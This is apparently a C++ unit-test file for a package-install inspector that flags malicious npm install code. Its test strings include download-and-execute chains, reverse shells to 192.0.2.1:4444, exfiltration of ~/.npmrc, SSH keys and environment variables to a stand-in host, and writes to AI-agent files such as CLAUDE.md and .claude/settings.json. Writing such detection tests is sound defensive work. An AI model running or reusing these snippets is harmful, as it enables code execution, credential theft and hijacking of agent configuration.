#include <gtest/gtest.h>

#include "inspect/testing.h"

namespace cordon::inspect {
namespace {

using testing::has;
using testing::installing;

// What code that fetches does with it in the one place of `use`.
RunHow run_of(const std::string& use, FlagKind kind = FlagKind::download_and_run) {
  const std::string code =
      "const https = require('https'), fs = require('fs'), cp = require('child_process');\n"
      "https.get('https://files.example.test/s', (r) => { let d = ''; r.on('data', (c) => d += c);\n"
      "  r.on('end', () => { " +
      use + " }); });";
  for (const Flag& flag : installing(code).peek().flags)
    if (flag.kind == kind) return flag.how;
  return RunHow::none;
}

TEST(CodeFlow, AFetchedTextBecomesCode) {
  for (const char* const use : {"cp.exec(d)",
                                "eval(d.trim())",
                                "eval.call(null, d)",
                                "Function.apply(null, [d])()",
                                "eval.bind(null)(d)",
                                "globalThis['ev' + 'al'](d)",
                                "(() => {}).constructor(d)()",
                                "(async function () {}).constructor(d)()",
                                "Object.getPrototypeOf(async function () {}).constructor(d)",
                                "[].filter.constructor(d)()",
                                "Reflect.apply(eval, null, [d])",
                                "setImmediate(eval, d)",
                                "const { eval: e } = globalThis; e(d)",
                                "Function.prototype.constructor(d)()",
                                "new (require('worker_threads').Worker)(d, { eval: !0 })",
                                "cp.spawn('node', ['-e', d])",
                                "cp.spawn(process.execPath, ['-e', d])",
                                "cp.spawn('sh', ['-c', d])",
                                "cp.exec.call(cp, d)",
                                "cp.execSync('sh', { input: d })",
                                "const p = cp.spawn('sh'); p.stdin.write(d)",
                                "cp.spawn('bash', ['-s']).stdin.end(d)",
                                "require('util').promisify(cp.exec)(d)",
                                "cp.exec(`echo \"${d}\" | sh`)",
                                "cp.exec(`bash -c \"${d}\"; node x.js`)",
                                "new (require('worker_threads').Worker)(d, { eval: true })",
                                "import('data:text/javascript,' + d)"})
    EXPECT_EQ(run_of(use), RunHow::evaluated) << use;
  for (const char* const use :
       {"cp.spawn('node', ['x.js', d])", "cp.exec(`echo ${d} | cat`)", "cp.exec(`node x.js \"${d}\"`)",
        "cp.execSync('cat', { input: d })", "cp.execSync('sh', { cwd: d })", "fs.writeFileSync.call(fs, 'a.json', d)",
        "new (require('worker_threads').Worker)(d, { eval: false })", "this.constructor(d)",
        "cp.spawn('cat').stdin.write(d)", "import('./a.js').then((m) => m.set(d))"})
    EXPECT_EQ(run_of(use), RunHow::none) << use;
}

TEST(CodeFlow, AFetchedFileIsStarted) {
  for (const char* const use :
       {"fs.writeFileSync('/tmp/x.js', d); cp.execSync('node /tmp/x.js')",
        "fs.writeFileSync('./x.sh', d); cp.exec('sh x.sh')",
        "fs.writeFileSync(__dirname + '/x.js', d); cp.execSync('node x.js')",
        "fs.writeFileSync('/tmp/x.js', d); cp.spawn(process.execPath, ['/tmp/x.js'])",
        "const p = require('path').join(__dirname, 'y.js'); fs.writeFileSync(p, d); require(p)",
        "fs.writeFileSync('/tmp/x.mjs', d); import('/tmp/x.mjs')",
        "fs.writeFileSync('/tmp/x.js', d); new (require('worker_threads').Worker)('/tmp/x.js')",
        "fs.writeFileSync('/tmp/x.js', d); require('module').createRequire(__filename)('/tmp/x.js')",
        "fs.writeFileSync('/tmp/x.js', d); cp.spawn(process.env.npm_node_execpath, ['/tmp/x.js'])",
        "fs.writeFileSync(__dirname + '/z.js', d); require('./z')",
        "fs.writeFileSync('/tmp/x', d); fs.renameSync('/tmp/x', '/tmp/y'); cp.spawn('/tmp/y')",
        "fs.writeFileSync('/tmp/x', d); cp.execSync('mv /tmp/x /tmp/y'); cp.spawn('/tmp/y')",
        "fs.writeFileSync('/tmp/x.node', d); process.dlopen(module, '/tmp/x.node')"})
    EXPECT_EQ(run_of(use), RunHow::started) << use;
  for (const char* const use : {"fs.writeFileSync('/tmp/x.js', d); cp.execSync('node /tmp/y.js')",
                                "fs.writeFileSync('/tmp/x.tgz', d); cp.execSync('tar xzf /tmp/x.tgz')",
                                "fs.writeFileSync('/tmp/x.json', d); require('/tmp/x.json')"})
    EXPECT_EQ(run_of(use), RunHow::none) << use;
}

TEST(CodeFlow, AFunctionIsHandedOverByItsName) {
  const std::string head =
      "const cp = require('child_process'), https = require('https');\n"
      "const u = 'https://files.example.test/s';\n";
  for (const char* const code :
       {"fetch(u).then((r) => r.text()).then(eval)", "fetch(u).then((r) => r.text()).then(Function).then((f) => f())",
        "fetch(u).then((r) => r.text()).then(cp.execSync)", "https.get(u, (s) => s.on('data', eval))",
        "function run(c) { return eval(c); } fetch(u).then((r) => r.text()).then(run)",
        "https.get(u, answered); function answered(r) { r.on('data', (c) => eval(c)); }",
        "const get = (a) => new Promise((res) => https.get(a, (r) => { let d = ''; r.on('data', (c) => d += c);"
        " r.on('end', () => res(d)); })); get(u).then((d) => eval(d))",
        "const get = (a) => new Promise((res) => https.get(a, (r) => r.on('data', res)));"
        " (async () => { eval(await get(u)); })()",
        "function get(a, done) { https.get(a, (r) => r.on('data', (c) => done(c))); } get(u, (d) => eval(d))",
        "https.get(u, (r) => r.pipe(cp.spawn('sh').stdin))",
        "new WebSocket('wss://files.example.test').onmessage = (e) => eval(e.data)",
        "import 'https://c.example.test/x.js'",
        "const s = require('net').connect(4444, '192.0.2.1'), sh = cp.spawn('/bin/sh'); s.pipe(sh.stdin)",
        "const c = new (require('net').Socket)(); c.connect(4444, '192.0.2.1', () => c.pipe(cp.spawn('sh').stdin))"})
    EXPECT_TRUE(has(installing(head + code).peek(), FlagKind::download_and_run)) << code;
  for (const char* const code :
       {"fetch(u).then((r) => r.text()).then(console.log)", "Promise.resolve('1').then(eval); fetch(u)",
        "function run(c) { return JSON.parse(c); } fetch(u).then((r) => r.text()).then(run)",
        "https.get(u, (r) => r.pipe(cp.spawn('cat').stdin))",
        "new Promise((res) => https.get(u, (r) => res(1))).then((d) => eval(d))"})
    EXPECT_FALSE(has(installing(head + code).peek(), FlagKind::download_and_run)) << code;
}

TEST(CodeFlow, ACommandFetchesForTheNext) {
  const std::string head = "const cp = require('child_process'), { execSync } = cp;\n";
  for (const char* const code :
       {"execSync('curl -s -o /tmp/x https://files.example.test/s'); execSync('/tmp/x')",
        "cp.spawnSync('curl', ['-o', '/tmp/x', 'https://files.example.test/s']); cp.spawnSync('sh', ['/tmp/x'])",
        "const p = require('path').join(require('os').tmpdir(), 'z.js'), u = 'https://files.example.test/s';"
        "execSync(`curl -so ${p} ${u}`); execSync(`node ${p}`)",
        "const p = `${require('os').tmpdir()}/z.sh`; execSync('curl -so ' + p + ' https://c.example.test/s'); "
        "execSync(p)",
        "execSync('curl -sLo /tmp/x https://files.example.test/s'); execSync('/tmp/x')",
        "eval(execSync('curl -s https://files.example.test/s').toString())",
        "cp.exec('curl -s https://files.example.test/s', (e, out) => eval(out))"})
    EXPECT_EQ(testing::tier_of(conclude(installing(head + code).peek(), {}), "inspect.download-and-run"), Tier::block)
        << code;
  for (const char* const code :
       {"execSync('curl -s -o /tmp/x.tgz https://files.example.test/s'); execSync('tar xzf /tmp/x.tgz')",
        "execSync('curl -s -o /tmp/x https://files.example.test/s'); execSync('/tmp/y')",
        "JSON.parse(execSync('curl -s https://files.example.test/s').toString())"})
    EXPECT_FALSE(has(installing(head + code).peek(), FlagKind::download_and_run)) << code;
}

TEST(CodeFlow, SecretsThatAreSentAsTheyAre) {
  const std::string head =
      "const fs = require('fs'), os = require('os'), https = require('https'), u = "
      "'https://c.example.test/c';\nconst r = https.request({ host: 'c.example.test', method: "
      "'POST' });\n";
  const auto found = [&](const std::string& code) {
    return has(installing(head + code).peek(), FlagKind::secrets_sent);
  };
  for (const char* const code :
       {"fetch(u, { method: 'POST', body: fs.readFileSync(os.homedir() + '/.npmrc') })",
        "r.end(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'))",
        "fs.createReadStream(os.homedir() + '/.ssh/id_rsa').pipe(r)",
        "fetch(u, { method: 'POST', body: fs.readFileSync('/proc/self/environ') })",
        "require('axios').post(u, process.env)", "require('axios').post(u, { env: process.env })",
        "require('axios').create({ baseURL: u }).post('/c', process.env)",
        "require('axios')({ url: u, method: 'post', data: process.env })",
        "fetch(u, { method: 'POST', body: JSON.stringify(globalThis.process.env) })",
        "fetch(u, { method: 'POST', body: JSON.stringify({ env: process.env }) })",
        "fetch(u, { method: 'POST', body: require('util').inspect(process.env) })",
        "fetch(u, { method: 'POST', body: require('child_process').execSync('env') })",
        "const s = Object.entries(process.env).map(([k, v]) => k + v).join('\\n'); fetch(u, { body: s })",
        "let s = ''; for (const k in process.env) s += k + '=' + process.env[k]; fetch(u, { body: s })"})
    EXPECT_TRUE(found(code)) << code;
  for (const char* const code :
       {"fetch(u, { headers: { authorization: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') } })",
        "const host = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8').split('=')[1]; https.get(host)",
        "r.end(fs.readFileSync('./data.txt', 'utf8'))", "require('axios').post(u, { ci: process.env.CI })",
        "require('axios').get(u, { agent: proxy(process.env) })", "require('axios').post(u, facts(process.env))",
        "require('child_process').spawnSync('make', { env: process.env }); require('axios').post(u, { a: 1 })",
        "const c = {}; for (const k in process.env) c[k] = process.env[k]; https.get({ host: c.host })",
        "fetch(u, { method: 'POST', body: require('util').inspect(process.versions) })"})
    EXPECT_FALSE(found(code)) << code;
}

TEST(CodeFlow, AControlFileLiesOutsideOfThePackage) {
  const std::string head = "const fs = require('fs'), os = require('os'), path = require('path');\n";
  const auto found = [&](const std::string& code) {
    return has(installing(head + code).peek(), FlagKind::outside_write);
  };
  for (const char* const code :
       {"fs.cp('x', '../../.claude/settings.json', () => {})",
        "const f = fs.openSync('../../.claude/settings.json', 'w'); fs.writeSync(f, '{}')",
        "fs.writeFileSync('../../CLAUDE.md', 'x')", "fs.writeFileSync('../../AGENTS.md', 'x')",
        "fs.appendFileSync('../../.git/config', 'x')", "fs.appendFileSync(os.homedir() + '/.npmrc', 'x')",
        "fs.writeFileSync(path.join(__dirname, '..', '..', '.claude', 'x.md'), 'x')",
        "const d = path.resolve(__dirname, '../../.claude'); fs.writeFileSync(d + '/x.md', 'x')",
        "for (const n of ['.bashrc', '.zshrc']) fs.appendFileSync(path.join(os.homedir(), n), 'x')",
        "for (const n of ['.bashrc', '.zshrc']) fs.appendFileSync(`${os.homedir()}/${n}`, 'x')",
        "for (const n of ['.bashrc', '.zshrc']) fs.appendFileSync(process.env.HOME + '/' + n, 'x')",
        "const root = process.env.INIT_CWD || __dirname; fs.writeFileSync(path.join(root, '.claude', 'x.md'), 'x')",
        "fs.writeFileSync((process.env.INIT_CWD || __dirname) + '/.claude/x.md', 'x')",
        "process.chdir(os.homedir()); fs.appendFileSync('.bashrc', 'x')",
        "function put(root) { fs.writeFileSync(path.join(root, '.claude', 'x.md'), 'x'); } put(process.env.INIT_CWD)"})
    EXPECT_TRUE(found(code)) << code;
  for (const char* const code :
       {"fs.writeFileSync(path.join(__dirname, '.claude', 'x.md'), 'x')", "fs.writeFileSync('dist/.profile', 'x')",
        "fs.writeFileSync(__dirname + '/.claude/' + name, 'x')", "fs.writeFileSync(`${__dirname}/AGENTS.md`, 'x')",
        "for (const n of ['.bashrc', '.zshrc']) fs.writeFileSync(path.join(__dirname, n), 'x')",
        "process.chdir(__dirname); fs.writeFileSync('.profile', 'x')",
        "fs.openSync('../../.claude/settings.json', 'r')", "fs.readFileSync('../../CLAUDE.md')",
        "import.meta.dirname; fs.writeFileSync(path.join(import.meta.dirname, '.mcp.json'), 'x')"})
    EXPECT_FALSE(found(code)) << code;
}

TEST(CodeFlow, ADecodedTextIsACommand) {
  const auto found = [](const std::string& code) {
    return has(installing("const cp = require('child_process');" + code).peek(), FlagKind::eval_of_decoded);
  };
  EXPECT_TRUE(found("cp.execSync(Buffer.from('dm9pZCAw', 'base64').toString())"));
  EXPECT_FALSE(found("cp.execSync('ls ' + Buffer.from('dm9pZCAw', 'base64').toString())"));
}

}  // namespace
}  // namespace cordon::inspect
